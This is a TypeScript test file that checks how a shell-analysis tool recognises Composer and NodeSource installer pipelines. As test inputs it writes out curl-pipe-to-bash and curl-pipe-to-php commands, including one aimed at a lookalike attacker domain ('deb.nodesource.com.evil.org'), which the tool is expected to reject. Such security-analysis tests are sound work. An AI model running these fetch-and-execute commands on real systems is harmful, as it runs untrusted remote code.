import { expect } from 'chai';
import { createContext } from '../../../src/effects/analyse.js';
import { emptyFileSystem } from '../../../src/project/file-system.js';
import { imageView } from '../../project/view.js';
import type { CommandContext, Effects } from '../../../src/effects/types.js';
import type { ShellWord } from '../../../src/shell/types.js';
import { knownInstallers, pipeModel } from '../../../transforms/composer/index.js';

function words(text: string): readonly ShellWord[] {
  return text.split(' ').map((value) => ({ text: value, span: { start: 0, end: 0 }, value, glob: false }));
}

function pipe(...calls: readonly string[]): Effects | null {
  return knownInstallers(calls.map(words), emptyContext());
}

function emptyContext(): CommandContext {
  return createContext({
    cwd: '/app',
    user: 'root',
    home: '/root',
    env: () => undefined,
    files: imageView(emptyFileSystem, []),
    table: {},
  });
}

function pipelineModel(text: string): string | undefined {
  return pipeModel(words(text), emptyContext())?.model;
}

describe('transforms/composer/installers', () => {
  it("knows Composer's installer", () => {
    expect(pipe('curl -sS https://getcomposer.org/installer', 'php')?.writes).to.deep.equal([
      { path: '/app/composer.phar', tree: false, role: 'tool' },
    ]);
    const placed = pipe(
      'curl -sS https://getcomposer.org/installer',
      'php -- --install-dir=/usr/bin --filename=composer',
    );
    expect(placed?.writes[0]?.path).to.equal('/usr/bin/composer');
    expect(placed?.programs).to.include.members(['curl', 'php']);
  });

  it('reads a pipeline in one piece', () => {
    expect(pipelineModel('curl -sS https://getcomposer.org/installer | php')).to.equal('composer installer');
    expect(pipelineModel('curl https://deb.nodesource.com/setup_20.x | tee x | bash')).to.equal(undefined);
  });

  it('knows nothing of other addresses, programs and longer pipes', () => {
    expect(pipe('curl https://example.com/setup_20.x', 'bash')).to.equal(null);
    expect(pipe('curl https://deb.nodesource.com.evil.org/setup_20.x', 'bash')).to.equal(null);
    expect(pipe('curl https://deb.nodesource.com/setup_20.x', 'tee x')).to.equal(null);
    expect(pipe('curl https://deb.nodesource.com/setup_20.x', 'sed s/a/b/', 'bash')).to.equal(null);
    expect(pipe('cat x', 'bash')).to.equal(null);
  });
});
